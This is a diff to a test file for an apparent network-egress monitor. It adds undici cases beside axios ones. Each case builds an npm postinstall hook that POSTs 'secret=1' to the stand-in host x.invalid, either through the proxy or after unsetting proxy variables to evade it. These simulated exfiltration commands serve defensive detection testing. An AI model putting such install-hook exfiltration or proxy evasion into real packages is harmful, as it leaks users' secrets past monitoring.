@@ -50,6 +50,8 @@ const PROGRAMS: readonly [name: string, command: string, request: Partial<Egress
 const BARE = 'env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u NODE_USE_ENV_PROXY';
 const RAW = `require('node:tls').connect({ host: 'x.invalid', port: 443, servername: 'x.invalid' }, function () {
   this.write('POST /abc?d=1 HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: 8\\r\\n\\r\\nsecret=1'); this.resume(); });`;
+/** It shares the dispatcher of Node's fetch, and thereby the proxy. */
+const UNDICI = `require('undici').request('${URL}', { method: 'POST', body: 'secret=1' })`;
 const POSTED = { method: 'POST', body: 'secret=1', status: 200 } as const;
 const HTTPS = `require('node:https').request('${URL}', { method: 'POST' }, (answer) => console.log(answer.statusCode)).end('secret=1')`;
 const PLAIN = HTTPS.replaceAll('https', 'http');
@@ -91,15 +93,23 @@ describe('what is sent to a refused host is seen, whoever sends it', () => {
   });
 
   it.each([
-    ['by the proxy', 'proxy', '{}', ''],
-    ['without it', 'transparent', '{ proxy: false }', `${BARE} `],
-  ])('axios %s', async (_how, via, options, bare) => {
-    const program = `require('axios').post('${URL}', 'secret=1', ${options}).then((answer) => console.log(answer.status))`;
+    ['axios through the proxy', 'axios@1.7.9', 'proxy', `require('axios').post('${URL}', 'secret=1')`, ''],
+    [
+      'axios without it',
+      'axios@1.7.9',
+      'transparent',
+      `require('axios').post('${URL}', 'secret=1', { proxy: false })`,
+      BARE,
+    ],
+    ['undici through the proxy', 'undici@7.16.0', 'proxy', UNDICI, ''],
+    ['undici without it', 'undici@7.16.0', 'transparent', UNDICI, BARE],
+  ])('%s', async (_name, client, via, program, bare) => {
+    const [name = '', version = ''] = client.split('@');
     const manifest = {
       name: 'project',
       version: '1.0.0',
-      dependencies: { axios: '1.7.9' },
-      scripts: { postinstall: `${node(program, bare)} || true` },
+      dependencies: { [name]: version },
+      scripts: { postinstall: `${node(program, bare === '' ? '' : `${bare} `)} || true` },
     };
     const { records, log } = await recordedBy({ 'package.json': manifest }, 'npm');
     const record = records.find((one) => one.host === 'x.invalid' && one.via === via);
